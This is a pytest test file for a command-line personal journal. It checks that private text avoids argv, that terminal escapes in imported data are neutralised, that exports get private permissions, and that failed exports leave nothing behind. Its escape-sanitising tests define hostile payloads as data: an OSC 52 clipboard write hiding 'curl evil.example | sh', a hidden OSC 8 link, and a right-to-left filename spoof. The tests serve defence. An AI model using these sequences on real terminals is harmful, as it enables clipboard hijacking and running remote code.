"""The command line and privacy: private text kept out of argv, journal text that cannot drive the
terminal, exports that make private only what they create and leave nothing behind when they fail,
and long notes that survive their own export. Real files, the real CLI in subprocesses."""

from __future__ import annotations

import csv
import json
import os
import re
import select
import stat
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from relationjournal.core import csvio
from relationjournal.core.errors import CsvImportError
from tests.conftest import Sandbox, run_cli, snapshot
from tests.test_cli import cli_ok, init_journal, one_line_error


# 7. Private text comes from standard input or the terminal, not argv ---------------------------------
def test_every_free_text_option_reads_standard_input_with_a_dash(sandbox: Sandbox) -> None:
    init_journal()
    cli_ok("person", "add", "-", input="Lena Okafor\n")
    cli_ok("person", "edit", "Lena Okafor", "--why", "-", input="She trusted us with her first campaign\n")
    cli_ok("person", "edit", "Lena Okafor", "--remember", "-", input="Her father was ill\nAsk gently\n")
    cli_ok("person", "edit", "Lena Okafor", "--how-we-met", "-", input="A workshop in Lagos\n")
    cli_ok("log", "Lena Okafor", "--channel", "instagram", "--summary", "-", "--hard-event", "--when",
           "2026-11-20T10:00+00:00", input="Her father died\n")  # fmt: skip
    cli_ok("log", "Lena Okafor", "--channel", "email", "--summary", "Checked in", "--body", "-", "--when",
           "2026-11-21T10:00+00:00", input="Long details\nover two lines\n")  # fmt: skip
    cli_ok("note", "add", "Lena Okafor", "-", input="The funeral is on Friday.\n")
    added = cli_ok("programme", "add", "Lena Okafor", "Brand advocates")
    membership = re.search(r"membership #(\d+)", added).group(1)
    cli_ok("programme", "rotate-out", membership, "--record", "-", input="Thanked her; perks end in March\n")

    person = json.loads(cli_ok("person", "list", "--format", "json"))[0]
    assert person["display_name"] == "Lena Okafor"
    assert person["why_it_matters"] == "She trusted us with her first campaign"
    assert person["remember"] == "Her father was ill\nAsk gently"
    assert person["how_we_met"] == "A workshop in Lagos"
    timeline = json.loads(cli_ok("timeline", "Lena Okafor", "--format", "json"))
    interactions = {t["summary"]: t["body"] for t in timeline if t["kind"] == "interaction"}
    assert interactions == {"Her father died": "", "Checked in": "Long details\nover two lines"}
    notes = [t["body"] for t in timeline if t["kind"] == "note"]
    assert "The funeral is on Friday." in notes
    assert any(n.endswith("Thanked her; perks end in March") for n in notes)
    shown = cli_ok("person", "show", "Lena Okafor")
    assert "She trusted us with her first campaign" in shown and "Her father died" in shown


def test_only_one_option_can_read_standard_input(sandbox: Sandbox) -> None:
    init_journal()
    cli_ok("person", "add", "Lena")
    result = run_cli("log", "Lena", "--channel", "email", "--summary", "-", "--body", "-", input="which one?\n")
    assert result.returncode == 2
    assert "--summary and --body" in result.stderr and "only one option can read standard input" in result.stderr
    assert json.loads(cli_ok("timeline", "--format", "json")) == []


def test_a_required_text_left_out_without_a_terminal_is_bad_usage_naming_the_dash(sandbox: Sandbox) -> None:
    init_journal()
    cli_ok("person", "add", "Lena")
    result = run_cli("note", "add", "Lena")
    assert result.returncode == 2 and "TEXT is missing" in result.stderr and "standard input" in result.stderr
    result = run_cli("programme", "rotate-out", "1")
    assert result.returncode == 2 and "--record is missing" in result.stderr


def run_on_terminal(*args: str, answer: str, expect: str, env: dict[str, str] | None = None) -> str:
    """Run the CLI with a pseudo-terminal as stdin, stdout and stderr: wait for `expect`, type
    `answer` and end the input with Ctrl+D. Returns everything the terminal showed."""
    import pty

    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "relationjournal", *args], stdin=slave, stdout=slave, stderr=slave,
        env={**os.environ, **(env or {})}, start_new_session=True,
    )  # fmt: skip
    os.close(slave)
    shown, typed = b"", False
    deadline = time.monotonic() + 120
    try:
        while time.monotonic() < deadline:
            if not typed and expect.encode() in shown:
                os.write(master, answer.encode() + b"\n\x04")  # Ctrl+D at the start of a line: end of input
                typed = True
            ready, _, _ = select.select([master], [], [], 0.5)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the process closed the terminal
                    break
                if not chunk:
                    break
                shown += chunk
            elif process.poll() is not None:
                break
        process.wait(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    text = shown.decode(errors="replace")
    assert typed, f"never asked: {text!r}"
    assert process.returncode == 0, text
    return text


def test_an_omitted_summary_is_asked_for_on_the_terminal(sandbox: Sandbox) -> None:
    init_journal()
    cli_ok("person", "add", "Lena")
    no_editor = {"VISUAL": "", "EDITOR": ""}
    run_on_terminal("log", "Lena", "--channel", "instagram", "--hard-event", answer="Her father died",
                    expect="Type the summary, end with Ctrl+D:", env=no_editor)  # fmt: skip
    [entry] = json.loads(cli_ok("timeline", "--format", "json"))
    assert entry["summary"] == "Her father died" and entry["hard_event"] is True


EDITOR_SCRIPT = textwrap.dedent("""
    import json, os, stat, sys
    path = sys.argv[-1]
    mode = lambda name: oct(stat.S_IMODE(os.stat(name).st_mode))
    seen = {"file": mode(path), "folder": mode(os.path.dirname(path)), "path": path,
            "empty": os.path.getsize(path) == 0}
    open(path + ".swp", "w").write("an editor's swap file")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write("Written in the editor:\\nthe funeral is on Friday.\\n")
    with open(os.environ["SEEN"], "w") as handle:
        json.dump(seen, handle)
""")  # fmt: skip


def test_an_omitted_note_is_written_in_the_editor_on_a_private_file_that_is_removed(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    init_journal()
    cli_ok("person", "add", "Lena")
    editor, seen = tmp_path / "editor.py", tmp_path / "seen.json"
    editor.write_text(EDITOR_SCRIPT)
    env = {"VISUAL": f"{sys.executable} {editor}", "SEEN": str(seen)}
    run_on_terminal("note", "add", "Lena", answer="", expect="Opening", env=env)
    facts = json.loads(seen.read_text())
    assert facts["file"] == "0o600" and facts["folder"] == "0o700" and facts["empty"]
    assert not Path(facts["path"]).parent.exists()  # the file, the folder and the swap file are gone
    [entry] = json.loads(cli_ok("timeline", "--format", "json"))
    assert entry["body"] == "Written in the editor:\nthe funeral is on Friday."


# 8. Text from the journal cannot drive the terminal ------------------------------------------------
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
CLEAR = "\x1b[2J"
LINK = "\x1b]8;;https://evil.example\x1b\\innocent\x1b]8;;\x1b\\"  # OSC 8: a hidden link
C1_CSI = "\x9b31m"  # CSI as a single C1 character
BIDI = "\u202egnp.exe"  # right-to-left override
EVIL_NAME = f"Mallory {CLIPBOARD}{CLEAR}{LINK}{C1_CSI}{BIDI}\x7f"
EVIL_TEXT = f"marathon {CLIPBOARD} {CLEAR}\r{LINK}\x08\x08 {C1_CSI} {BIDI}\u2066x\u2069"


def unsafe(text: str) -> list[str]:
    return sorted(
        {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in "\u202a\u202b"
         "\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}
    )  # fmt: skip


def test_terminal_escapes_from_an_import_are_shown_not_sent(sandbox: Sandbox, tmp_path: Path) -> None:
    init_journal()
    folder = tmp_path / "evil"
    folder.mkdir()
    with (folder / "people.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "display_name", "organisation", "remember", "why_it_matters"])
        writer.writerow([1, EVIL_NAME, EVIL_TEXT, EVIL_TEXT, EVIL_TEXT])
        writer.writerow([2, EVIL_NAME, "", "", ""])  # two people of one name: the error lists both
    with (folder / "notes.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["person_id", "body"], [1, EVIL_TEXT]])
    with (folder / "interactions.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["person_id", "occurred_at", "channel", "summary", "body"],
                                      [1, "2026-11-20T10:00+00:00", "email", EVIL_TEXT, EVIL_TEXT]])  # fmt: skip
    cli_ok("import", "--csv", str(folder))

    for command in (("person", "list"), ("person", "list", "--format", "csv"), ("person", "show", "1"),
                    ("timeline",), ("timeline", "1"), ("search", "marathon"), ("search", "Mallory"),
                    ("person", "show", EVIL_NAME)):  # fmt: skip
        result = run_cli(*command)
        assert unsafe(result.stdout) == [] and unsafe(result.stderr) == [], command
        assert "Mallory" in result.stdout + result.stderr or "marathon" in result.stdout, command
    assert "\\x1b]52;c;" in cli_ok("person", "list")  # shown, as text

    # JSON escapes them instead, so every value reads back exactly.
    for command in (("person", "list", "--format", "json"), ("timeline", "--format", "json"),
                    ("search", "marathon", "--format", "json")):  # fmt: skip
        out = cli_ok(*command)
        assert unsafe(out) == [], command
        assert EVIL_NAME in {item.get("person_name", item.get("display_name")) for item in json.loads(out)}, command
    people = json.loads(cli_ok("person", "list", "--format", "json"))
    assert people[0]["display_name"] == EVIL_NAME and people[0]["remember"] == EVIL_TEXT


# 9. Export makes private only what it creates -------------------------------------------------------
def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("folder_mode", [0o755, 0o1777])
def test_export_keeps_the_mode_of_an_existing_folder(sandbox: Sandbox, tmp_path: Path, folder_mode: int) -> None:
    init_journal()
    cli_ok("person", "add", "Ada")
    folder = tmp_path / "Desktop"
    folder.mkdir()
    folder.chmod(folder_mode)
    cli_ok("export", "--csv", str(folder))
    assert mode(folder) == folder_mode
    [made] = folder.iterdir()  # the export's own dated folder, private
    assert mode(made) == 0o700
    files = sorted(made.iterdir())
    assert [p.name for p in files] == sorted(spec.filename for spec in csvio.FILES)
    assert {p.name: mode(p) for p in files} == {p.name: 0o600 for p in files}


def test_export_makes_the_folders_it_creates_private(sandbox: Sandbox, tmp_path: Path) -> None:
    init_journal()
    cli_ok("person", "add", "Ada")
    parent = tmp_path / "shared"
    parent.mkdir()
    parent.chmod(0o755)
    folder = parent / "new" / "export"
    cli_ok("export", "--csv", str(folder))
    assert (mode(parent), mode(parent / "new"), mode(folder)) == (0o755, 0o700, 0o700)
    [made] = folder.iterdir()
    assert mode(made) == 0o700 and {mode(p) for p in made.iterdir()} == {0o600}


# 10. A failed export leaves nothing behind ----------------------------------------------------------
@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A real 200 KB file system (tmpfs): writes past that fail with ENOSPC."""
    mount_point = tmp_path / "small-disk"
    mount_point.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=200k,mode=0755", "tmpfs", str(mount_point)],
                             capture_output=True, text=True)  # fmt: skip
    if mounted.returncode != 0:
        if os.environ.get("CI"):
            pytest.fail(f"cannot mount a small tmpfs: {mounted.stderr}")
        pytest.skip(f"cannot mount a small tmpfs (needs root): {mounted.stderr.strip()}")
    try:
        yield mount_point
    finally:
        subprocess.run(["umount", str(mount_point)], check=True)


def big_journal() -> None:
    """A journal whose export needs about 400 KB: people.csv and tags.csv fit a small disk, notes.csv does not."""
    init_journal()
    cli_ok("person", "add", "Ada", "--tag", "client")
    cli_ok("note", "add", "Ada", "-", input="A long letter, kept whole. " * 15_000)


def test_export_on_a_full_disk_leaves_no_files_and_says_so(sandbox: Sandbox, small_disk: Path) -> None:
    big_journal()
    result = run_cli("export", "--csv", str(small_disk))
    assert list(small_disk.iterdir()) == []  # not people.csv and tags.csv, which fit
    assert mode(small_disk) == 0o755
    message = one_line_error(result)
    assert "disk is full" in message and "nothing was exported" in message and "unexpected" not in message

    message = one_line_error(run_cli("export", "--csv", str(small_disk / "new" / "folder")))
    assert "disk is full" in message and "nor the folder it made" in message
    assert list(small_disk.iterdir()) == []


def test_a_failed_export_keeps_an_earlier_export_in_the_folder_whole(sandbox: Sandbox, small_disk: Path) -> None:
    init_journal()
    cli_ok("person", "add", "Ada", "--tag", "client")
    cli_ok("export", "--csv", str(small_disk))
    before = snapshot(small_disk)
    cli_ok("note", "add", "Ada", "-", input="A long letter, kept whole. " * 15_000)
    one_line_error(run_cli("export", "--csv", str(small_disk)))
    assert snapshot(small_disk) == before
    everything = sorted(str(p.relative_to(small_disk)) for p in small_disk.rglob("*") if p.is_file())
    assert everything == sorted(before) and len(list(small_disk.iterdir())) == 1  # no temp files or folders either


FILE_SIZE_LIMIT = """
import resource, runpy, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, resource.RLIM_INFINITY))
sys.argv = ["relationjournal", *sys.argv[1:]]
runpy.run_module("relationjournal", run_name="__main__")
"""


def test_export_past_the_file_size_limit_is_one_clear_line_and_leaves_nothing(sandbox: Sandbox, tmp_path: Path) -> None:
    big_journal()
    cli_ok("person", "list")  # today's automatic backup is made: the limited run below only exports
    folder = tmp_path / "export"
    result = subprocess.run([sys.executable, "-c", FILE_SIZE_LIMIT, "export", "--csv", str(folder)],
                            capture_output=True, text=True, timeout=120)  # fmt: skip
    message = one_line_error(result)
    assert "notes.csv" in message and "file size limit" in message and "unexpected" not in message
    assert not folder.exists()


# 12. A long note survives its own export ------------------------------------------------------------
@pytest.mark.parametrize("megabytes", [1, 5])
def test_a_long_note_round_trips_through_export_and_import(sandbox: Sandbox, tmp_path: Path, megabytes: int) -> None:
    init_journal()
    cli_ok("person", "add", "Novelist")
    note = ('A chapter, with "quotes", commas and ünïcødé.\n' * 25_000 * megabytes)[: megabytes * 1_000_000]
    cli_ok("note", "add", "Novelist", "-", input=note)
    cli_ok("export", "--csv", str(tmp_path / "export"))
    [export] = (tmp_path / "export").iterdir()
    other = {"RELATIONJOURNAL_DATA_DIR": str(tmp_path / "fresh")}
    cli_ok("init", env=other)
    cli_ok("import", "--csv", str(export), env=other)
    [entry] = json.loads(cli_ok("timeline", "--format", "json", env=other))
    assert entry["body"] == note.removesuffix("\n")


def test_a_cell_too_long_for_any_journal_is_named_as_such_not_as_a_cut_short_file(tmp_path: Path) -> None:
    path = tmp_path / "notes.csv"
    path.write_text(f"person_id,body\n1,{'x' * (csvio.FIELD_LIMIT + 1)}\n", encoding="utf-8")
    with pytest.raises(CsvImportError) as caught:
        csvio.read_import(path)
    assert "longer than 20,000,000 characters" in str(caught.value) and "cut short" not in str(caught.value)
    assert csvio.csv.field_size_limit() == 131072  # the limit is raised only while a file is read
